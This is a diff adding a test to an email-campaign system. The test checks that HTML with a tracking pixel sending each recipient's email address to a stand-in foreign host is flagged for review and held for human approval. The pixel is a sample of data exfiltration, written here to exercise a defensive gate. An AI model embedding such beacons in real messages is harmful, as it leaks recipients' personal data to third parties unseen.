@@ -286,3 +286,17 @@ test('an editor can draft and pause; deploy, resume and cancel require an admin'
   await deploy(scene, { campaign_id })
   await editor.get('campaign.pause', { campaign_id })
 })
+
+test('a link that tells a foreign host about each recipient waits for a person, who sees the host', async () => {
+  const { scene, campaign_id } = await ready()
+  const html = '<p>News</p><img src="https://pix.grab.example/a.gif?m={{ contact.email }}" alt="">'
+  await scene.owner.get('campaign.save', { campaign_id, content: { html } })
+  const { plan_hash, ...shown } = await plan(scene, campaign_id)
+  const { gates } = shown as unknown as { gates: { gate: string; evidence: string }[] }
+  const links = gates.find(({ gate }) => gate === 'links')
+  assert.match(links?.evidence ?? '', /pix\.grab\.example/)
+  const answer = await deploy(scene, { campaign_id, plan_hash })
+  const { status, approval_reason } = answer as Deployed & { approval_reason?: string }
+  assert.deepEqual([status, approval_reason], ['awaiting_approval', 'personal_links'])
+  assert.deepEqual(await jobsOf(campaign_id), ['campaign.approval-mail'])
+})
